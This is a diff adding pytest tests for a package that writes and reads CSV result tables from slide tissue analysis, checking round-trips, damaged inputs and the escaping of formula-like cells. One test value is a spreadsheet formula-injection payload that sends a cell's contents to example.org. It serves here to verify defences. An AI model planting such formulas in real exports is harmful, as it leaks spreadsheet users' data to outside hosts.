@@ -1,0 +1,111 @@
+import csv
+import json
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ntrm.core.errors import DataError, UsageError
+from ntrm.results.tables import COLUMNS, FOOT, RUN, read_results, write_tables
+
+DONE = {"slide_id": "a", "status": "done", "pieces": 2, "tissue_area_mm2": 1 / 3, "area_BCC_mm2": 0.25, "age": "007"}
+FAILED = {"slide_id": "1e5", "status": "failed", "reason": 'it said "no", twice\nand left', "age": "8"}
+PIECES = [{"slide_id": "a", "piece": k, "touches_edge": k == 1, "orientation_reason": None} for k in (1, 2)]
+
+
+@pytest.fixture
+def out(tmp_path):
+    documents = [{"slides": [FAILED]}, {"slides": [DONE], "pieces": PIECES}]
+    write_tables(tmp_path, documents, ["age", "weight"])
+    (tmp_path / RUN).write_text(json.dumps({"covariates": ["age", "weight"], "model": {"name": "m"}}))
+    return tmp_path
+
+
+def test_files_have_fixed_columns_first_then_classes_covariates_and_the_model(out):
+    for name, columns in COLUMNS.items():
+        with (out / f"{name}.csv").open(newline="") as stream:
+            head, *rows = csv.reader(stream)
+        assert tuple(head) == (*columns, *(["area_BCC_mm2"] * (name == "slides")), "age", "weight", *FOOT)
+        assert len(rows) == {"slides": 2, "pieces": 2}.get(name, 0)
+
+
+def test_what_was_written_is_read(out):
+    results = read_results(out)
+    assert results.run["model"]["name"] == "m"
+    assert [results.slides.column("slide_id"), results.slides.column("age")] == [["1e5", "a"], ["8", "007"]]
+    done = results.slides.rows[1]
+    assert done["tissue_area_mm2"] == pytest.approx(1 / 3, rel=1e-8)
+    assert done["area_BCC_mm2"] == 0.25
+    assert done["pieces"] == 2
+    assert results.slides.rows[0]["pieces"] is None
+    assert results.slides.rows[0]["reason"] == FAILED["reason"]
+    assert results.pieces.column("touches_edge") == [True, False]
+    assert len(results.regions) == 0
+    with pytest.raises(UsageError, match="no such column"):
+        results.pieces.column("nonsense")
+
+
+def test_data_frames_where_pandas_is_there(out):
+    pandas = pytest.importorskip("pandas", reason="pandas is not part of the package")
+    frame = read_results(out).slides.frame()
+    assert isinstance(frame, pandas.DataFrame)
+    assert frame["area_BCC_mm2"].sum() == 0.25
+
+
+def test_what_is_no_folder_of_results_is_said(tmp_path):
+    with pytest.raises(DataError, match="no results"):
+        read_results(tmp_path)
+
+
+@pytest.mark.parametrize("text", ["[]", "{", "3", '{"covariates": 3}', "[" * 100_000], ids=range(5))
+def test_a_damaged_record_of_the_run_is_said(out, text):
+    (out / RUN).write_text(text)
+    with pytest.raises(DataError, match="no results"):
+        read_results(out)
+
+
+FORMULA = '=HYPERLINK("http://example.org?x="&A1)'
+
+
+def test_texts_from_outside_are_no_formulas_and_read_results_gives_them_back(tmp_path):
+    model = {"model_name": "@model", "model_version": "+1.0-x"}
+    slides = [{"slide_id": "a", "status": "failed", "reason": "-\rno", "@who": FORMULA, "shift": "-2.5", **model}]
+    regions = [{"slide_id": "a", "piece": 1, "tissue": "-other", "area_mm2": -0.5, "@who": FORMULA, **model}]
+    write_tables(tmp_path, [{"slides": slides, "regions": regions}], ["@who", "shift"])
+    (tmp_path / RUN).write_text(json.dumps({"covariates": ["@who", "shift"]}))
+    for name in COLUMNS:
+        with (tmp_path / f"{name}.csv").open(newline="", encoding="utf-8") as stream:
+            cells = [cell for row in csv.reader(stream) for cell in row if cell[:1] in ("=", "+", "-", "@")]
+        assert cells == {"slides": ["-2.5"], "regions": ["-0.5"]}.get(name, [])
+    results = read_results(tmp_path)
+    assert "@who" in results.slides.columns
+    for table, row in ((results.slides, slides[0]), (results.regions, regions[0])):
+        assert {key: cell for key, cell in table.rows[0].items() if cell is not None} == row | {
+            key: float(row[key]) for key in ("shift",) if key in row
+        }
+
+
+@settings(max_examples=25)
+@given(st.text(st.sampled_from("=+-@'\t\r\n\",0_.e ") | st.characters(codec="utf-8"), min_size=1))
+def test_any_text_comes_back_and_no_cell_begins_another_row(tmp_path_factory, text):
+    out = tmp_path_factory.mktemp("results")
+    row = {"slide_id": "a", "status": text, "reason": text, "model_name": text, "note": f"x{text}"}
+    write_tables(out, [{"slides": [row, {"slide_id": "b", "note": "y"}]}], ["note"])
+    (out / RUN).write_text(json.dumps({"covariates": ["note"]}))
+    first, second = read_results(out).slides
+    assert {key: first[key] for key in row} == row
+    assert (second["slide_id"], second["note"]) == ("b", "y")
+
+
+@pytest.mark.parametrize("codes", [["007", "8"], ["1_2", "1_3"], ["٣"], ["true", "yes"], ["+5"], ["1.", "2"]])
+def test_codes_of_the_user_stay_texts(tmp_path, codes):
+    write_tables(tmp_path, [{"slides": [{"slide_id": str(k), "code": code}]} for k, code in enumerate(codes)], ["code"])
+    (tmp_path / RUN).write_text(json.dumps({"covariates": ["code"]}))
+    assert read_results(tmp_path).slides.column("code") == codes
+
+
+def test_a_class_that_is_called_like_a_number_keeps_its_name(tmp_path):
+    write_tables(tmp_path, [{"regions": [{"slide_id": "a", "tissue": "1", "area_mm2": 2}]}], [])
+    (tmp_path / RUN).write_text("{}")
+    (region,) = read_results(tmp_path).regions
+    assert (region["tissue"], region["area_mm2"]) == ("1", 2)
